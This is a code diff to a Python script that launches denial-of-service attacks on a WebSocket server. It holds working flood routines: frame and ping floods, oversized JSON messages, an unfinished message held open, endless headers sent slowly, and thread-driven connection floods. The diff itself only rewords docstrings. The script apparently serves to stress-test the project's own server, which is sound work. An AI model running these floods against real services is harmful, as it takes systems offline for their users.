@@ -1,17 +1,17 @@
-"""Attack a WebSocket port: `websocket.py KIND HOST:PORT COUNT [TOKEN]`; COUNT connections, which show the token.
+"""Attack a WebSocket port: `websocket.py KIND HOST:PORT COUNT [TOKEN]`; COUNT connections, which send the token.
 
-Prints a line when the attack is under way, and how many bytes were sent when its standard input ends.
+Prints a line when the attack has begun, and the number of sent bytes when its standard input ends.
 
-* fragments: empty continuation frames, as fast as they are taken
-* pings: pings, as fast as they are taken
-* json: messages of JSON that make many objects, 7 MB each, or 4 MB (within the limit) with a token; four a second in
-  all; a connection that is closed is opened again
-* unfinished: a message of 16 MiB without its last byte, held
-* headers: a request whose headers never end, a line now and then
+* fragments: empty continuation frames, as fast as the server reads them
+* pings: pings, as fast as the server reads them
+* json: JSON messages with many objects, 7 MB each, or 4 MB (within the limit) with a token; four a second in total; a
+  closed connection is opened again
+* unfinished: a message of 16 MiB without its last byte; the connection stays open
+* headers: a request with endless headers, one line every 20 ms
 * behind: as many frames as fit behind the request, in the same packet
-* connects: connections that are closed at once, `RATE` a second by each of COUNT threads
-* requests: the same, with a complete request before
-* held: the same, held for a second
+* connects: connections that are closed at once, `RATE` a second from each of COUNT threads
+* requests: the same, with a complete request
+* held: the same, closed after a second
 """
 
 from __future__ import annotations
@@ -36,14 +36,14 @@ sent = 0
 
 
 def request(token: str) -> bytes:
-    """The request of the handshake."""
+    """Return the request of the handshake."""
     lines = ["GET / HTTP/1.1", "Host: x", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13"]
     lines += [f"Sec-WebSocket-Key: {KEY}"] + ([f"Authorization: Bearer {token}"] if token else [])
     return "\r\n".join([*lines, "", ""]).encode()
 
 
 def frame(data: bytes, opcode: int = 1) -> bytes:
-    """A masked frame with a mask of zeros."""
+    """Return a frame that is masked with zeros."""
     size = len(data)
     if size < 126:
         return bytes([0x80 | opcode, 0x80 | size]) + bytes(4) + data
@@ -53,9 +53,9 @@ def frame(data: bytes, opcode: int = 1) -> bytes:
 
 
 def connect(address: str, token: str, behind: bytes = b"") -> socket.socket:
-    """A connection after its handshake, and with a token after its hello.
+    """Open a connection and complete its handshake, and with a token its hello.
 
-    :raises OSError: it was refused.
+    :raises OSError: the connection was refused.
     """
     host, port = address.rsplit(":", 1)
     connection = socket.create_connection((host, int(port)), 10)
@@ -74,7 +74,7 @@ def connect(address: str, token: str, behind: bytes = b"") -> socket.socket:
 
 
 def send(connection: socket.socket, data: bytes) -> None:
-    """Send all of it, reading what comes meanwhile, until the attack is over.
+    """Send all data and discard received data, until the attack ends.
 
     :raises OSError: the connection was closed.
     """
@@ -93,7 +93,7 @@ def send(connection: socket.socket, data: bytes) -> None:
 
 
 def flood(address: str, token: str, data: bytes, first: bytes = b"") -> None:
-    """Send the same over and over."""
+    """Send the same data repeatedly."""
     while not stop.is_set():
         with contextlib.suppress(OSError), connect(address, token) as connection:
             send(connection, first)
@@ -103,28 +103,28 @@ def flood(address: str, token: str, data: bytes, first: bytes = b"") -> None:
 
 
 def large_messages(address: str, token: str, period_s: float) -> None:
-    """A large message in every period."""
+    """Send a large message in every period."""
     text = json.dumps({"type": "submit", "tasks": []})[:-2].encode()
     call = b'{"id":0,"call":"no:where","args":[%s]},' % b",".join([b"[]"] * 1000)
     data = frame(text + (call * ((WITHIN_LIMIT if token else LARGE) // len(call)))[:-1] + b"]}")
     while not stop.is_set():
         with contextlib.suppress(OSError), connect(address, token) as connection:
             while not stop.is_set():
-                began = time.monotonic()
+                started = time.monotonic()
                 send(connection, data)
-                stop.wait(max(0.0, period_s - (time.monotonic() - began)))
+                stop.wait(max(0.0, period_s - (time.monotonic() - started)))
         stop.wait(0.1)
 
 
 def unfinished(address: str, token: str) -> None:
-    """Nearly all of a large message."""
+    """Send a large message without its last byte."""
     with contextlib.suppress(OSError), connect(address, token) as connection:
         send(connection, frame(b"x" * (16 << 20))[:-1])
         stop.wait()
 
 
 def endless_headers(address: str) -> None:
-    """A line of the request now and then."""
+    """Send a request with endless headers, one line every 20 ms."""
     host, port = address.rsplit(":", 1)
     while not stop.is_set():
         with contextlib.suppress(OSError), socket.create_connection((host, int(port)), 10) as connection:
@@ -136,14 +136,14 @@ def endless_headers(address: str) -> None:
 
 
 def behind(address: str) -> None:
-    """Frames in the packet of the request."""
+    """Send frames in the packet of the request."""
     while not stop.is_set():
         with contextlib.suppress(OSError), connect(address, "", FIRST_FRAGMENT + FRAGMENT * 10_000):
             pass
 
 
 def connects(address: str, data: bytes, held_s: float) -> None:
-    """Short connections."""
+    """Open connections, send data, and close them after `held_s`."""
     host, port = address.rsplit(":", 1)
     held: list[tuple[float, socket.socket]] = []
     while not stop.wait(1 / RATE):
@@ -156,10 +156,10 @@ def connects(address: str, data: bytes, held_s: float) -> None:
 
 
 def main(kind: str, address: str, count: int, token: str) -> None:
-    """Attack."""
+    """Run the attack."""
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    runs = {
+    attacks = {
         "fragments": lambda: flood(address, token, FRAGMENT * 1000, FIRST_FRAGMENT),
         "pings": lambda: flood(address, token, PING * 1000),
         "json": lambda: large_messages(address, token, count / 4),
@@ -170,7 +170,7 @@ def main(kind: str, address: str, count: int, token: str) -> None:
         "requests": lambda: connects(address, request(""), 0.0),
         "held": lambda: connects(address, request(""), 1.0),
     }
-    threads = [threading.Thread(target=runs[kind], daemon=True) for _ in range(count)]
+    threads = [threading.Thread(target=attacks[kind], daemon=True) for _ in range(count)]
     for thread in threads:
         thread.start()
     time.sleep(0.5)
